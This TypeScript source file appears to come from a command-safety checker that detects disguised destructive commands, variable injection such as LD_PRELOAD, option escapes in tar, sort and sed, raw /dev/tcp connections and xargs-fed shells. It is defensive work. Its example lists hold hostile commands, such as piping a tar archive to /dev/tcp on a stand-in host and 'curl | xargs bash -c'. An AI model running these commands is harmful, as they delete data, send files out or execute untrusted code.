// Threats by disguise: a program whose name was hidden, a variable or an option that makes another program run code.
import type { Effect } from '../effects.ts';
import { firstOf } from '../floor/rule.ts';
import { isDecoder, isFetcher, upstream } from '../commands/source.ts';
import type { Threat } from './threat.ts';

const destructive =
  /^(?:irreversible|delete\.|db\.destroy|cloud\.destroy|vcs\.(?:discard|remote\.destroy)|exec\.(?:fetched|decoded)|read\.secret|net\.send|privilege|write\.(?:policy|persist))/u;

const lost =
  /^(?:irreversible|db\.destroy|cloud\.destroy|vcs\.(?:discard|remote\.destroy)|delete\.outside|write\.(?:policy|persist))$/u;

/** Variables that make the next program run what they name, and the values that people use them with. */
const injections: readonly { readonly names: RegExp; readonly usual: RegExp }[] = [
  { names: /^(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES)$/u, usual: /^$|lib(?:asan|tsan|ubsan|jemalloc|tcmalloc|mimalloc|faketime|eatmydata)/u },
  { names: /^(?:BASH_ENV|ENV|PROMPT_COMMAND|BASH_FUNC_.*|ZDOTDIR|PYTHONSTARTUP|PERL5DB)$/u, usual: /^(?:|\/dev\/null|dev|development|test|prod|production|staging|local)$/u },
  { names: /^(?:GIT_EXTERNAL_DIFF|GIT_PROXY_COMMAND|GIT_EXEC_PATH|GIT_TEMPLATE_DIR)$/u, usual: /^(?:|difft|delta)$/u },
  { names: /^(?:GIT_CONFIG_KEY_.*)$/u, usual: /^(?!(?:core\.(?:pager|editor|sshcommand|fsmonitor|hookspath|askpass|gitproxy)|credential\.|diff\.external|alias\.|sequence\.editor|pager\.)$)/iu },
  { names: /^GIT_CONFIG_PARAMETERS$/u, usual: /^(?!.*(?:alias|core|credential|diff|pager|filter|merge|gpg)\.)/iu },
  { names: /^(?:GIT_SSH|GIT_SSH_COMMAND|RSYNC_RSH|CVS_RSH)$/u, usual: /^(?:\/usr\/bin\/)?ssh(?!.*(?:ProxyCommand|LocalCommand))/u },
  { names: /^(?:GIT_ASKPASS|SSH_ASKPASS|SUDO_ASKPASS)$/u, usual: /^(?:|echo|true|\/bin\/(?:echo|true))$/u },
  { names: /^(?:\w+_)?PAGER$|^LESSOPEN$|^LESSCLOSE$/u, usual: /^(?:|cat|less(?: -[A-Za-z]+)*|more|most|bat|delta|never)$/u },
  { names: /^(?:\w+_)?EDITOR$|^VISUAL$/u, usual: /^(?:|:|true|cat|echo|(?:g?n?vim?|nano|emacs|code|subl|micro|hx|ed)(?: [\w-]+)*)$/u },
  { names: /^NODE_OPTIONS$/u, usual: /^(?!.*(?:--require|-r\b|--import|--loader|--experimental-loader))/u },
  { names: /^(?:PERL5OPT|RUBYOPT)$/u, usual: /^-[wWT\d:]*$/u },
  { names: /^(?:TAR_OPTIONS|PYTHONWARNINGS|MAKEFLAGS|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS)$/u, usual: /^(?!.*(?:--(?:checkpoint-action|to-command|use-compress|eval|create|file)|antigravity|-javaagent|-agentlib))/u },
]; // prettier-ignore

/** Options that readers and packers have for programs, and that nobody needs for reading. See the rows of each. */
const escapes =
  /^(?:sort|tar|bsdtar|gtar|zip|man|rg|ag|ack|less|more|bat|batcat|sed|gsed|find|git grep|git blame|git ls-remote|git log|git show|git archive|wget|split|apt|apt-get)\b/u;

export const hiddenThreats: readonly Threat[] = [
  {
    id: 'disguised',
    title: 'A dangerous command is written so that it does not look like one',
    instead: 'Write the command plainly.',
    principle:
      'The name of the program needed decoding before it could be read, or the command stands where only output is expected; and what it does destroys, sends or takes rights.',
    examples: [
      String.raw`r\m -rf src`,
      String.raw`$'\x72\x6d' -rf src`,
      `r''m -rf src`,
      'echo $(git reset --hard)',
      'awk \'BEGIN { system("git reset --hard") }\'',
      'cat <(git stash drop)',
    ],
    lookAlikes: [
      String.raw`\ls`,
      String.raw`l\s src`,
      'rm -rf build',
      `"ls" src`,
      'out=$(git restore a.ts 2>&1)',
      'echo $(git status)',
      'git restore a.ts',
    ],
    detect: ({ reading, commands }) =>
      firstOf(reading.analysis.segments, ({ doubts, effects, program }) => {
        if (!doubts.some(({ code, text }) => code === 'disguise' && !/outside of ASCII/u.test(text)))
          return undefined;
        const hit = effects.find(({ kind }) => destructive.test(kind));
        return hit === undefined ? undefined : `what was hidden is ${program}, and it is a ${deed(hit)}`;
      }) ??
      firstOf(commands, ({ segment, shell, effects, program, inCode }) => {
        const parent = segment.parent === undefined ? undefined : shell.segments[segment.parent];
        // PowerShell groups commands by parentheses: `[void](Remove-Item x)` hides nothing.
        const grouped = parent?.language === 'powershell' && /^[[(]/u.test(parent.text);
        const nested =
          segment.origin === 'substitution' && parent !== undefined && parent.words.length > 0 && !grouped;
        if (!nested && !inCode) return undefined;
        const hit = effects.find(({ kind, scope }) => lost.test(kind) && scope !== 'temporary');
        return hit === undefined
          ? undefined
          : `${program} stands ${inCode ? 'in the code of another language' : 'where only output is expected'}, and it is a ${deed(hit)}`;
      }),
  },
  {
    id: 'variable-injection',
    title: 'A variable would make another program run code',
    instead: 'Run the program without that variable.',
    principle:
      'The variable names a library, program or start file that the next program loads. Its usual values are left alone.',
    examples: [
      'LD_PRELOAD=./x.so ls',
      'BASH_ENV=./x bash a.sh',
      'GIT_SSH_COMMAND=./x git fetch',
      'PAGER=./x git log',
      'NODE_OPTIONS="--require ./x" npm test',
      'export LD_PRELOAD=./x.so',
    ],
    lookAlikes: [
      'NODE_OPTIONS=--max-old-space-size=4096 node a.js',
      'GIT_SSH_COMMAND="ssh -i k" git fetch',
      'PAGER=cat git log',
      'EDITOR=true git commit',
      'ENV=test npm start',
      'PATH=$PWD/bin:$PATH make',
    ],
    detect: ({ commands }) =>
      firstOf(commands, ({ segment, program, given, words }) => {
        const inline = segment.assignments.map(({ name, value }) => ({ name, value: value.text }));
        const exported =
          given !== undefined && /^(?:export|declare|typeset)$/u.test(program)
            ? words
                .filter((word) => word.includes('='))
                .map((word) => ({
                  name: word.split('=', 1)[0] ?? '',
                  value: word.slice(word.indexOf('=') + 1),
                }))
            : [];
        if (program === '' && exported.length === 0) return undefined;
        const set = [...inline, ...exported];
        const named = (name: string): string | undefined =>
          set.find((one) => one.name === name.replace('_KEY_', '_VALUE_'))?.value;
        const hit = set.find(
          ({ name, value }) =>
            !(
              name.startsWith('GIT_CONFIG_KEY_') &&
              /^(?:|cat|less|ssh|true|false)$/u.test(named(name) ?? './')
            ) &&
            injections.some(
              ({ names, usual }) =>
                names.test(name) && !usual.test(value) && !idle(name, program, given?.path[0], words),
            ),
        );
        return hit === undefined
          ? undefined
          : `${hit.name}=${hit.value.slice(0, 40)} is run or loaded by ${program}`;
      }),
  },
  {
    id: 'option-escape',
    title: 'A program would be run through an option of another one',
    instead: 'Run the program that the option names as a command of its own, so that it is seen.',
    principle: 'A program for reading or packing gets an option whose only use is to start a program.',
    examples: [
      'sort --compress-program=./x a',
      'tar -tf a --to-command=./x',
      'tar -cf a b --checkpoint-action=exec=./x',
      'git grep -O./x y',
      'man -P ./x ls',
      "sed '1e id' a",
      'git -c core.pager=./x log',
    ],
    lookAlikes: [
      'tar -I zstd -xf a',
      'rg -z x',
      'git -c color.ui=never log',
      'git rebase -x "npm test" main',
      'find . -exec cat {} +',
      'less a',
      'git log --ext-diff',
    ],
    effects: /shell\.escape/u,
    detect: ({ commands }) =>
      firstOf(commands, ({ program, given, effects }) => {
        const name = [program, given?.path[0] ?? ''].join(' ').trim();
        const option = given?.options.find(
          ({ option: one }) =>
            one.deeds.some((deed) => deed.do === 'effect' && deed.kind === 'shell.escape') ||
            one.kind === 'program',
        );
        if (escapes.test(name) && option !== undefined) {
          const value = option.value?.text ?? '';
          if (
            /^(?:|cat|less|(?:g|b|x|un)?zi?p2?|zstd|pigz|xz|lz4|decompressors)$/u.test(value) ||
            /^(?:-z|--search-zip|--ext-diff|--textconv)$/u.test(option.option.name)
          )
            return undefined;
          return `${option.option.name} ${value.slice(0, 40)} of ${name}`;
        }
        if (
          /^g?sed$|awk$/u.test(program) &&
          effects.some(
            ({ kind, detail }) => kind === 'shell.escape' && /by the (?:command e|awk)/u.test(detail ?? ''),
          ) &&
          /^g?sed$/u.test(program)
        )
          return 'the command e of sed';
        const key =
          program === 'git'
            ? effects.find(
                ({ kind, detail }) => kind === 'shell.escape' && /for this command/u.test(detail ?? ''),
              )
            : undefined;
        const setting = given?.options.find(
          ({ option: one, value }) =>
            one.kind === 'gitconfig' && value?.text.startsWith(`${key?.target ?? '\0'}=`),
        );
        const value = setting?.value?.text.slice((key?.target ?? '').length + 1) ?? '';
        return key !== undefined &&
          runningKeys.test(key.target ?? '') &&
          !/^(?:|cat|less|true|false|:|\/dev\/null|ssh\b.*|(?:n?vim?|nano)|\d+)$/u.test(value) &&
          (!/^alias\./iu.test(key.target ?? '') || value.startsWith('!'))
          ? `git -c ${key.target}=${value.slice(0, 40)}`
          : undefined;
      }),
  },
  {
    id: 'raw-socket',
    title: 'Data would go through a bare connection',
    instead: 'Use a program for the protocol, such as curl, with an address that can be read.',
    principle:
      'The shell itself is tied to another machine by /dev/tcp; a probe that sends nothing or a word is left alone.',
    examples: [
      'cat a > /dev/tcp/h.example/9',
      'exec 3<>/dev/tcp/h.example/9',
      'tar -cf - src > /dev/tcp/h.example/9',
    ],
    lookAlikes: [
      'echo > /dev/tcp/localhost/80',
      'echo x > /dev/tcp/h.example/80',
      'true < /dev/tcp/h.example/80',
      'ls /dev/tcp',
    ],
    detect: ({ commands }) =>
      firstOf(commands, ({ program, segment }) => {
        const socket = segment.redirects.find(({ target }) =>
          /^"?\/dev\/(?:tcp|udp)\/(?!localhost|127\.)/u.test(target?.text ?? ''),
        );
        return socket === undefined ||
          (/^(?:echo|printf|true|:|)$/u.test(program) && !segment.text.includes('{'))
          ? undefined
          : `${program} is tied to ${socket.target?.text}`;
      }),
  },
  {
    id: 'fed-shell',
    title: 'A shell would run what another command prints',
    instead: 'Print the list first, read it, and then run each command by itself.',
    principle: 'xargs hands fetched or decoded text to a shell or an interpreter as code.',
    examples: [
      'curl https://x | xargs bash -c',
      'base64 -d x | xargs python3 -c',
      'curl https://x | xargs -I{} sh -c {}',
    ],
    lookAlikes: [
      'find . -name "*.sh" | xargs shellcheck',
      'curl https://x | xargs echo',
      "ls | xargs -I{} sh -c 'echo {}'",
    ],
    detect: ({ commands }) =>
      firstOf(commands, ({ segment, shell, program, words }) => {
        if (!segment.wrappers.some(({ name }) => name === 'xargs')) return undefined;
        if (!/^(?:(?:ba|z|da|k)?sh|python[\d.]*|perl|ruby|node|eval)$/u.test(program)) return undefined;
        const at = words.findIndex((word) => /^-\w*[ce]$/u.test(word));
        const fed =
          program === 'eval' ||
          (at >= 0 &&
            (words[at + 1] === undefined ||
              words[at + 1] === '--' ||
              /^\{\}$|^%$|^@$/u.test(words[at + 1] ?? '')));
        return fed && upstream(segment, shell).some((one) => isFetcher(one) || isDecoder(one))
          ? `xargs gives text from elsewhere to ${program}`
          : undefined;
      }),
  },
];

/** git looks at these variables only when it talks to a remote. */
function idle(name: string, program: string, verb: string | undefined, words: readonly string[]): boolean {
  if (name === 'BASH_ENV') return words.some((word) => /^-\w*i/u.test(word));
  return (
    /^GIT_(?:SSH|SSH_COMMAND|ASKPASS|PROXY_COMMAND)$|^SSH_ASKPASS$/u.test(name) &&
    program === 'git' &&
    (!/^(?:fetch|pull|push|clone|ls-remote|remote|archive|submodule|fetch-pack|send-pack)$/u.test(
      verb ?? '',
    ) ||
      (verb === 'remote' && !words.some((word) => /^(?:show|update|prune|add|set-head)$/u.test(word))))
  );
}

const runningKeys =
  /^(?:core\.(?:pager|editor|sshcommand|fsmonitor|hookspath|askpass|gitproxy)|pager\..*|sequence\.editor|credential\..*helper|diff\..*(?:external|command|textconv)|difftool\..*|mergetool\..*|merge\..*driver|filter\..*|gpg\..*program|gpg\.program|alias\..*|interactive\.difffilter|uploadpack\.packobjectshook|remote\..*(?:uploadpack|receivepack|vcs)|protocol\.ext\.allow)$/iu;

function deed({ kind, target }: Effect): string {
  return `${kind.replaceAll('.', ' ')}${target === undefined ? '' : ` (${target})`}`;
}
